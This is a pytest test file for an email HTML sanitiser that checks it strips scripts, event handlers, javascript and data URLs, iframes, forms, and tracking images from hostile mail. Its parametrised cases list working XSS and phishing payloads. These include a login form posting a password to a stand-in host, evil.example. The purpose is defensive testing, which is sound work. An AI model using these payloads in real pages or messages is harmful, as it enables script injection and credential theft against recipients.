"""The HTML sanitiser against hostile mail: scripts, handlers, URLs, forms, styles, images."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.email.html_text import html_to_text
from channels.email.sanitize import MAX_HTML_NESTING, html_nesting_depth, sanitize_html


@pytest.mark.parametrize(
    ("hostile", "forbidden"),
    [
        ("<script>alert(1)</script>hi", "alert"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>hi", "evil"),
        ('<img src=x onerror="alert(1)">', "onerror"),
        ('<body onload="alert(1)">hi</body>', "onload"),
        ('<a href="javascript:alert(1)">click</a>', "javascript"),
        ('<a href="JaVaScRiPt:alert(1)">click</a>', "alert"),
        ('<a href="&#106;avascript:alert(1)">click</a>', "alert"),
        ('<a href="vbscript:msgbox(1)">click</a>', "vbscript"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>', "data:"),
        ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "data:"),
        ('<iframe src="https://evil.example"></iframe>', "iframe"),
        ('<object data="evil.swf"></object>', "object"),
        ('<embed src="evil.swf">', "embed"),
        ('<form action="https://evil.example/steal"><input name="password"></form>', "form"),
        ('<form><input type="password" name="pw"><button>Log in</button></form>', "input"),
        ('<base href="https://evil.example/">', "base"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "stylesheet"),
        ("<style>body{display:none}</style>hi", "display"),
        ('<svg><script>alert(1)</script></svg>', "alert"),
        ('<math><mtext><img src=x onerror=alert(1)></mtext></math>', "onerror"),
        ('<div style="background:url(https://evil.example/t.gif)">x</div>', "url("),
        ('<div style="width: expression(alert(1))">x</div>', "expression"),
        ('<div style="position:fixed;top:0;left:0">fake login</div>', "position"),
        ('<div style="display:none">hidden words</div>', "display"),
        ('<span style="font-size:0px">hidden</span>', "font-size"),
        ('<p style="margin-top:-500px">overlay</p>', "margin"),
        ('<span style="color:transparent">hidden</span>', "color"),
        ('<div style="behavior:url(x.htc)">x</div>', "behavior"),
        ('<a href="https://ok.example" onclick="steal()">x</a>', "onclick"),
        ('<div class="btn btn-primary" id="login">x</div>', "class="),
        ("<!--[if IE]><script>alert(1)</script><![endif]-->hi", "alert"),
        ('<a href="/admin/delete">relative</a>', "/admin"),
        ('<img src="https://tracker.example/p.gif" srcset="https://t.example/a 1x">', "srcset"),
    ],
)
def test_hostile_markup_is_neutralised(hostile: str, forbidden: str) -> None:
    cleaned = sanitize_html(hostile)
    assert forbidden.lower() not in cleaned.lower()


def test_safe_formatting_survives() -> None:
    html = (
        '<p style="color: #333; font-weight: bold">Hello <b>there</b> <i>friend</i></p>'
        '<table border="1"><tr><td colspan="2">cell</td></tr></table>'
        '<blockquote>quoted</blockquote><ul><li>one</li></ul>'
    )
    cleaned = sanitize_html(html)
    for kept in ("color: #333", "font-weight: bold", "<b>there</b>", "<i>friend</i>",
                 'colspan="2"', "<blockquote>", "<li>one</li>"):
        assert kept in cleaned


def test_links_open_safely_in_a_new_tab() -> None:
    cleaned = sanitize_html('<a href="https://shop.example/order/1">order</a>')
    assert 'href="https://shop.example/order/1"' in cleaned
    assert 'target="_blank"' in cleaned
    assert "noopener" in cleaned
    assert "noreferrer" in cleaned
    assert "nofollow" in cleaned


def test_mailto_and_tel_links_are_kept() -> None:
    cleaned = sanitize_html('<a href="mailto:a@b.example">m</a><a href="tel:+31201234567">t</a>')
    assert "mailto:a@b.example" in cleaned
    assert "tel:+31201234567" in cleaned


def test_remote_images_are_blocked_by_default() -> None:
    cleaned = sanitize_html('<img src="https://tracker.example/p.gif?u=42" alt="logo">')
    assert re.search(r"<img[^>]*\ssrc=", cleaned) is None
    assert 'data-blocked-src="https://tracker.example/p.gif?u=42"' in cleaned
    assert 'alt="logo"' in cleaned


def test_blocked_source_keeps_its_escaping() -> None:
    cleaned = sanitize_html('<img src="https://t.example/p.gif?a=1&amp;b=&quot;x&quot;">')
    assert 'data-blocked-src="https://t.example/p.gif?a=1&amp;b=&quot;x&quot;"' in cleaned


def test_remote_images_allowed_when_configured() -> None:
    cleaned = sanitize_html('<img src="https://cdn.example/a.png">', allow_remote_images=True)
    assert 'src="https://cdn.example/a.png"' in cleaned


def test_cid_images_only_for_known_attachments() -> None:
    html = '<img src="cid:known@mail"><img src="cid:unknown@mail">'
    cleaned = sanitize_html(html, content_ids=["<known@mail>"])
    assert 'src="cid:known@mail"' in cleaned
    assert "unknown@mail" not in cleaned


def test_alt_text_cannot_break_out_of_the_tag() -> None:
    cleaned = sanitize_html('<img alt="x&quot;><script>alert(1)</script>" src="https://a.example/i">')
    assert "<script" not in cleaned
    assert cleaned.count("<img") == 1


def test_html_to_text_marks_blockquotes_as_quotes() -> None:
    text = html_to_text(
        "<div>Still broken!</div><div>On Mon, A wrote:<blockquote>We fixed it."
        "<blockquote>Is it fixed?</blockquote></blockquote></div>"
    )
    assert text.splitlines() == [
        "Still broken!",
        "On Mon, A wrote:",
        "> We fixed it.",
        "> > Is it fixed?",
    ]


def test_html_to_text_skips_scripts_styles_and_head() -> None:
    html = "<html><head><title>T</title><style>p{}</style></head><body>Hi<script>x()</script>"
    assert html_to_text(html) == "Hi"


def test_html_to_text_survives_broken_markup() -> None:
    assert "after" in html_to_text("<![weird[ x ]]><p>after</p><div <b>")


@given(st.text(max_size=400))
def test_any_input_comes_out_without_active_content(html: str) -> None:
    cleaned = sanitize_html(html + "<script>x()</script><img src=x onerror=y>")
    assert "<script" not in cleaned.lower()
    assert "onerror" not in cleaned.lower()
    html_to_text(html)


def test_lone_surrogates_do_not_reach_nh3() -> None:
    assert "ok" in sanitize_html("<p>ok \ud83d</p>")


def test_deeply_nested_markup_is_shown_as_text() -> None:
    # html5ever slows down with the square of nesting depth; hostile mail must not stall us.
    html = "<div>" * 5000 + "<script>x()</script>still broken" + "</div>" * 5000
    assert html_nesting_depth(html) > MAX_HTML_NESTING
    assert sanitize_html(html) == "<pre>still broken</pre>"


def test_ordinary_mail_nesting_is_rendered() -> None:
    html = "<table><tr><td><div><p>x</p></div></td></tr></table>" * 10
    assert html_nesting_depth(html) == 2  # <tr>, <td> and <p> close themselves
    assert sanitize_html(html).startswith("<table>")


def test_html_to_text_joins_inline_runs_with_single_spaces() -> None:
    assert html_to_text("<span>a </span>" * 3 + "<b> b</b>  <i>c</i>") == "a a a b c"
